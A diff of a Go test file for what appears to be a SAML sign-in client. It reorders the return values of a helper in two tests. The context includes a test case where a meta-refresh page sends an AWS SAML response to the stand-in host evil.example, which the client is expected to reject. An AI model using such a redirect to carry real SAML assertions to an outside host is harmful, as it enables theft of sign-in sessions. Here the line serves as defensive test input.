@@ -94,7 +94,7 @@ func TestEnd(t *testing.T) {
 			"unknown signin.aws.amazon.com: the provider sends its response by redirect, where AWS cannot check the signature; its AWS application needs an assertion consumer service with the POST binding", 1},
 		{"a response for AWS in an address", `<meta http-equiv=refresh content="0;url=https://evil.example/?samlResponse=` + url.QueryEscape(awsResponse) + `">`, "unknown evil.example" + astray, 1},
 	} {
-		_, err, site := walked(t, map[string][]string{"idp.example.com/": {c.page}, "broker.example.com/307": {"307 /acs"}, "broker.example.com/acs": {donePage}},
+		_, site, err := walked(t, map[string][]string{"idp.example.com/": {c.page}, "broker.example.com/307": {"307 /acs"}, "broker.example.com/acs": {donePage}},
 			&person{}, Account{Target: "https://aws.example.com/acs"})
 		if told(err) != c.want || len(site.seen) != c.requests {
 			t.Errorf("%s: %q after %q, want %q", c.name, told(err), site.seen, c.want)
@@ -147,7 +147,7 @@ func TestHosts(t *testing.T) {
 				redirect = "308 https://" + other + "/password"
 			}
 			p := &person{takes: c.takes}
-			_, err, site := walked(t, map[string][]string{
+			_, site, err := walked(t, map[string][]string{
 				"idp.example.com/":              {start},
 				other + "/":                     {passwordPage},
 				"POST idp.example.com/password": {redirect},
